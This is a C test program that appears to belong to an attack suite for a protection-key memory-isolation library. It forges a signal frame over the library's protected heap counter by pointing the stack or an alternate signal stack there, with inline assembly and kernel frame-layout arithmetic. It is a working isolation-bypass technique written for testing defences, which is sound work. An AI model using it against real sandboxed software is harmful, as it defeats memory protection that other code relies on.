/* The kernel writes a signal frame wherever the thread's stack pointer (or
 * its alternate signal stack) points, and since Linux 6.12 it writes it
 * with every protection key open (it cannot know which key guards an
 * alternate stack).  So the application points its stack, or an alternate
 * stack of its own, into the library's heap and takes a signal: the frame
 * (registers of its choosing) lands over the library's counter.  Its
 * handler, installed with the bare system call so that nothing of
 * libprotect's runs first, leaves at once without using the stack.
 * signal_frame stack: the stack pointer moved; signal_frame altstack: an
 * alternate stack declared there with sigaltstack; signal_frame uc_stack:
 * declared there by a handler that rewrites the alternate stack its frame
 * returns with (rt_sigreturn sets it).
 * (On Linux before 6.12 the kernel writes the frame with the thread's own
 * rights: the write fails and the thread gets SIGSEGV.) */
#define _GNU_SOURCE
#include "attack.h"

#include <cpuid.h>
#include <signal.h>
#include <stdint.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

struct kernel_sigaction {
    void *handler;
    unsigned long flags;
    void *restorer;
    uint64_t mask;
};

/* signal_on_stack(sp, sig, value): moves to SP, sends itself SIG with VALUE
 * in every register it need not keep (the frame saves them), and comes
 * back: 1 from the handler (frame_handler), 0 if the thread went on past
 * the system call without it (the kernel could not write the frame, and
 * its SIGSEGV was dealt with). */
int signal_on_stack(void *sp, int sig, uint64_t value);
void frame_handler(int sig);
__asm__(".text\n"
        ".globl signal_on_stack\n"
        "signal_on_stack:\n"
        "    push %rbx\n push %rbp\n push %r12\n push %r13\n push %r14\n push %r15\n"
        "    mov %rsp, saved_rsp(%rip)\n"
        "    mov %esi, %r12d\n"
        "    mov %rdx, %r15\n"
        "    mov $39, %eax\n syscall\n mov %eax, %ebx\n"   /* getpid */
        "    mov $186, %eax\n syscall\n mov %eax, %r13d\n" /* gettid */
        "    mov %rdi, %rsp\n"
        "    mov %ebx, %edi\n mov %r13d, %esi\n mov %r12d, %edx\n"
        "    mov %r15, %r8\n mov %r15, %r9\n mov %r15, %r10\n mov %r15, %r12\n mov %r15, %r13\n"
        "    mov %r15, %r14\n mov %r15, %rbp\n mov %r15, %rbx\n"
        "    mov $234, %eax\n syscall\n" /* tgkill: the signal comes on the way out */
        "    xor %ecx, %ecx\n"
        "    jmp 1f\n"
        ".globl frame_handler\n"
        "frame_handler:\n"
        "    mov $1, %ecx\n"
        "1:  mov saved_rsp(%rip), %rsp\n"
        "    pop %r15\n pop %r14\n pop %r13\n pop %r12\n pop %rbp\n pop %rbx\n"
        "    mov %ecx, %eax\n"
        "    ret\n"
        ".data\n saved_rsp: .quad 0\n .text\n");

/* Where the kernel puts the frame for a stack top of TOP (Linux's
 * get_sigframe on x86-64): the XSAVE area (CPUID 0xd's size and a 4-byte
 * end marker) 64-aligned below it, then struct rt_sigframe (440 bytes),
 * its start 8 off a 16-byte boundary. */
static uintptr_t frame_at(uintptr_t top)
{
    unsigned eax, ebx, ecx, edx;
    __cpuid_count(0xd, 0, eax, ebx, ecx, edx);
    uintptr_t fx = (top - (ebx + 4)) & ~(uintptr_t)63;
    return ((fx - 440) & ~(uintptr_t)15) - 8;
}

/* A stack top whose frame puts one of the registers signal_on_stack set
 * over P (their offsets in struct rt_sigframe: r8, r9, r10, r12 to r15,
 * rbp, rbx). */
static uintptr_t top_for(uintptr_t p)
{
    static const unsigned offsets[] = {48, 56, 64, 80, 88, 96, 104, 128, 136};
    for (uintptr_t top = p; top < p + 16384; top += 8)
        for (size_t i = 0; i < sizeof offsets / sizeof *offsets; i++)
            if (frame_at(top) + offsets[i] == p)
                return top;
    blocked("no stack top found for the frame (a frame layout this attack does not know)");
}

static uintptr_t evil_top;

static void set_uc_stack(int sig, siginfo_t *si, void *ctx)
{
    ucontext_t *uc = ctx;
    uc->uc_stack = (stack_t){.ss_sp = (void *)(evil_top - 65536), .ss_size = 65536};
}

static void never_called(void)
{
    _exit(5);
}

int main(int argc, char **argv)
{
    int altstack = argc > 1 && strcmp(argv[1], "altstack") == 0;
    int uc_stack = argc > 1 && strcmp(argv[1], "uc_stack") == 0;
    vault_open();
    struct vault_cell *cell = vault_address(VAULT_HEAP);
    uint64_t before = vault_counter(VAULT_HEAP);
    /* On the thread's stack the frame starts 128 bytes (the red zone) below
     * the stack pointer; on an alternate stack, at its top. */
    uintptr_t top = top_for((uintptr_t)&cell->counter);
    struct kernel_sigaction ka = {.handler = (void *)frame_handler,
                                  .flags = SA_NODEFER | 0x04000000 /* SA_RESTORER */,
                                  .restorer = (void *)never_called};
    if (altstack) {
        ka.flags |= SA_ONSTACK;
        stack_t ss = {.ss_sp = (void *)(top - 65536), .ss_size = 65536};
        if (syscall(SYS_sigaltstack, &ss, NULL) != 0)
            blocked_errno("sigaltstack into the library's heap");
    }
    if (uc_stack) {
        ka.flags |= SA_ONSTACK;
        evil_top = top;
        struct sigaction sa = {.sa_sigaction = set_uc_stack, .sa_flags = SA_SIGINFO};
        sigaction(SIGUSR2, &sa, NULL);
        raise(SIGUSR2);
    }
    if (syscall(SYS_rt_sigaction, SIGUSR1, &ka, NULL, 8) != 0)
        blocked_errno("rt_sigaction");
    static char own_stack[65536] __attribute__((aligned(16)));
    uint32_t app_pkru, edx;
    __asm__ volatile("rdpkru" : "=a"(app_pkru), "=d"(edx) : "c"(0));
    int handled = signal_on_stack(altstack || uc_stack ? (void *)(own_stack + sizeof own_stack) : (void *)(top + 128), SIGUSR1,
                                  FORGED_COUNTER);
    /* The handler starts with the kernel's initial rights and did not
     * return through rt_sigreturn: the application's back (a WRPKRU that
     * opens no library key more than the application has is allowed). */
    __asm__ volatile("wrpkru" ::"a"(app_pkru), "c"(0), "d"(0) : "memory");
    uint64_t after = vault_counter(VAULT_HEAP);
    if (after == FORGED_COUNTER)
        breached("changed the library's counter with a signal frame written over it");
    if (after != before)
        breached("spoilt the library's counter with a signal frame written over it");
    blocked(handled ? "the counter did not change" : "the signal's frame could not be written there");
}
